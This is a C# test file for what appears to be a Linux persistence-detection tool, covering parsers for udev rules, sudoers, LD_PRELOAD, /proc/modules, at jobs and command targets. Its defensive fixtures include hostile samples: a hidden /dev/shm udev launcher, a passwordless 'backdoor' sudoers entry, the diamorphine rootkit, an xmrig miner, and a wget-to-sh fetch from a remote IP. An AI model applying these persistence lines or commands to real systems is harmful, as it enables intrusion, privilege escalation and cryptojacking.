using Atalaya.Platform.Linux.Persistence;

namespace Atalaya.Platform.Linux.Tests.Persistence;

public sealed class SmallParsersTests
{
    [Fact]
    public void Udev_rules_yield_only_executing_items()
    {
        // Lines from this machine's /lib/udev/rules.d (85-hwclock, 70-uaccess, 95-dm-notify) and a hostile one.
        const string text = """
            # comment
            KERNEL=="rtc0", RUN+="/usr/lib/udev/hwclock-set $root/$name"
            TAG=="uaccess", ENV{MAJOR}!="", RUN{builtin}+="uaccess"
            ENV{DM_COOKIE}=="?*", RUN+="/sbin/dmsetup udevcomplete $env{DM_COOKIE}"
            ACTION=="add", SUBSYSTEM=="net", \
              RUN+="/bin/sh -c 'nohup /dev/shm/.u &'"
            KERNEL=="sd*", PROGRAM="helper %k", IMPORT{program}="/usr/bin/probe $devnode"
            this is not a rule
            KERNEL=="x", RUN+="unterminated
            """;
        var commands = UdevRuleParser.Parse(text, out var malformed);
        Assert.Equal(2, malformed);
        Assert.Equal(
            [
                new UdevCommand(2, "RUN", "/usr/lib/udev/hwclock-set $root/$name"),
                new UdevCommand(4, "RUN", "/sbin/dmsetup udevcomplete $env{DM_COOKIE}"),
                new UdevCommand(5, "RUN", "/bin/sh -c 'nohup /dev/shm/.u &'"),
                new UdevCommand(7, "PROGRAM", "helper %k"),
                new UdevCommand(7, "IMPORT{program}", "/usr/bin/probe $devnode"),
            ],
            commands);
        Assert.Equal("/dev/shm/.u", CommandTarget.Find(commands[2].Command));
    }

    [Theory]
    [InlineData("root\tALL=(ALL:ALL) ALL", SudoersLineKind.UserSpec, "root", false, true, "root ALL=(ALL:ALL) ALL")]
    [InlineData("%sudo   ALL=(ALL:ALL) ALL", SudoersLineKind.UserSpec, "%sudo", false, true, "%sudo ALL=(ALL:ALL) ALL")]
    [InlineData("backdoor ALL=(ALL) NOPASSWD: ALL", SudoersLineKind.UserSpec, "backdoor", true, true, "backdoor ALL=(ALL) NOPASSWD: ALL")]
    [InlineData("ana ALL=(root) NOPASSWD: /usr/bin/systemctl restart nginx", SudoersLineKind.UserSpec, "ana", true, false, "ana ALL=(root) NOPASSWD: /usr/bin/systemctl restart nginx")]
    [InlineData("Defaults\tenv_reset", SudoersLineKind.Defaults, null, false, false, "Defaults env_reset")]
    [InlineData("Defaults env_keep += \"LD_PRELOAD\"", SudoersLineKind.Defaults, null, false, false, "Defaults env_keep += \"LD_PRELOAD\"")]
    [InlineData("@includedir /etc/sudoers.d", SudoersLineKind.Include, "/etc/sudoers.d", false, false, "@includedir /etc/sudoers.d")]
    [InlineData("#includedir /etc/sudoers.d", SudoersLineKind.Include, "/etc/sudoers.d", false, false, "#includedir /etc/sudoers.d")]
    [InlineData("Cmnd_Alias SHUTDOWN = /sbin/halt", SudoersLineKind.Alias, "Cmnd_Alias", false, false, "Cmnd_Alias SHUTDOWN = /sbin/halt")]
    public void Sudoers_lines(string line, SudoersLineKind kind, string? principal, bool noPassword, bool all, string text)
    {
        Assert.True(SudoersParser.TryParseLine(line, out var parsed));
        Assert.Equal(new SudoersLine { Kind = kind, Principal = principal, NoPassword = noPassword, AllCommands = all, Text = text }, parsed);
    }

    [Theory]
    [InlineData("# User privilege specification")]
    [InlineData("#include")]
    [InlineData("   ")]
    public void Sudoers_comments_are_not_lines(string line) => Assert.False(SudoersParser.TryParseLine(line, out _));

    [Theory]
    [InlineData("/usr/lib/libfoo.so", new[] { "/usr/lib/libfoo.so" })]
    [InlineData(" /lib/a.so:/lib/b.so\n\t/tmp/.c.so \n", new[] { "/lib/a.so", "/lib/b.so", "/tmp/.c.so" })]
    [InlineData("# not a comment for rtld", new[] { "#", "not", "a", "comment", "for", "rtld" })]
    [InlineData("", new string[0])]
    public void Preload_is_split_like_rtld(string text, string[] expected) =>
        Assert.Equal(expected, SimpleListParser.ParsePreload(text));

    [Fact]
    public void Line_lists_drop_comments()
    {
        // This machine's /etc/ld.so.conf.d/x86_64-linux-gnu.conf, plus a modules-load.d style file.
        Assert.Equal(["/usr/local/lib/x86_64-linux-gnu", "/lib/x86_64-linux-gnu", "/usr/lib/x86_64-linux-gnu"],
            SimpleListParser.ParseLines("# Multiarch support\n/usr/local/lib/x86_64-linux-gnu\n/lib/x86_64-linux-gnu\n/usr/lib/x86_64-linux-gnu\n"));
        Assert.Equal(["loop", "diamorphine"], SimpleListParser.ParseLines("; comment\nloop # inline\n\n  diamorphine\n", semicolonComments: true));
    }

    [Theory]
    [InlineData("nf_tables 348160 0 - Live 0xffffffffc0a2d000", "nf_tables", "Live", null)]
    [InlineData("diamorphine 16384 0 - Live 0x0000000000000000 (OE)", "diamorphine", "Live", "(OE)")]
    [InlineData("ext4 1060864 1 mbcache,jbd2, Unloading 0xffffffffc0400000", "ext4", "Unloading", null)]
    public void Proc_modules_lines(string line, string name, string state, string? taint)
    {
        Assert.True(SimpleListParser.TryParseProcModule(line, out var n, out var s, out var t));
        Assert.Equal((name, state, taint), (n, s, t));
    }

    [Theory]
    [InlineData("nf_tables")]
    [InlineData("x notanumber 0 - Live 0x0")]
    public void Proc_modules_rejects_short_lines(string line) => Assert.False(SimpleListParser.TryParseProcModule(line, out _, out _, out _));

    [Fact]
    public void At_job_commands_and_uid()
    {
        // The layout at 3.2.5 writes (from /var/spool/cron/atjobs on a Debian host).
        const string text = "#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail ana 0\numask 22\nPATH=/usr/bin:/bin; export PATH\ncd /home/ana || {\n\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n${SHELL:-/bin/sh} << 'marcinDELIMITER6a2f4c1b'\n/home/ana/.x/run --quiet\necho done\nmarcinDELIMITER6a2f4c1b\n";
        Assert.True(AtJobParser.TryParse(text, out var commands, out var uid));
        Assert.Equal("/home/ana/.x/run --quiet\necho done", commands);
        Assert.Equal(1000u, uid);
        Assert.False(AtJobParser.TryParse("#!/bin/sh\necho not at\n", out _, out _));
    }

    [Theory]
    [InlineData("/usr/bin/backup --all", "/usr/bin/backup")]
    [InlineData("FOO=1 BAR='x y' nohup /opt/a/b -q", "/opt/a/b")]
    [InlineData("/bin/bash -c \"exec /tmp/.s/x arg\"", "/tmp/.s/x")]
    [InlineData("sh -lc 'cd /; wget -q -O- http://198.51.100.4/a | sh'", "wget")]
    [InlineData("python3 -u /var/tmp/agent.py", "/var/tmp/agent.py")]
    [InlineData("python3 -c 'import os'", "python3")]
    [InlineData("bash /root/.local/run.sh", "/root/.local/run.sh")]
    [InlineData("env -i PATH=/x /usr/bin/id", "/usr/bin/id")]
    [InlineData("'/opt/my app/bin' --x", "/opt/my app/bin")]
    [InlineData("test -e /run/systemd/system || SERVICE_MODE=1 /sbin/e2scrub_all -A -r", "/sbin/e2scrub_all")]
    [InlineData("cd / && run-parts --report /etc/cron.hourly", "run-parts")]
    [InlineData("2>/dev/null /opt/x; echo", "/opt/x")]
    [InlineData("nice -n 19 /usr/bin/xmrig -o pool:3333", "/usr/bin/xmrig")]
    [InlineData("sleep 5", "sleep")]
    [InlineData("# only a comment", null)]
    [InlineData(";;;&&||", null)]
    [InlineData("sh -c 'sh -c \"sh -c \\\"sh -c \\\\\\\"sh -c x\\\\\\\"\\\"\"'", "sh")]
    [InlineData("> /dev/null", null)]
    [InlineData("", null)]
    public void Command_target(string command, string? expected) => Assert.Equal(expected, CommandTarget.Find(command));
}
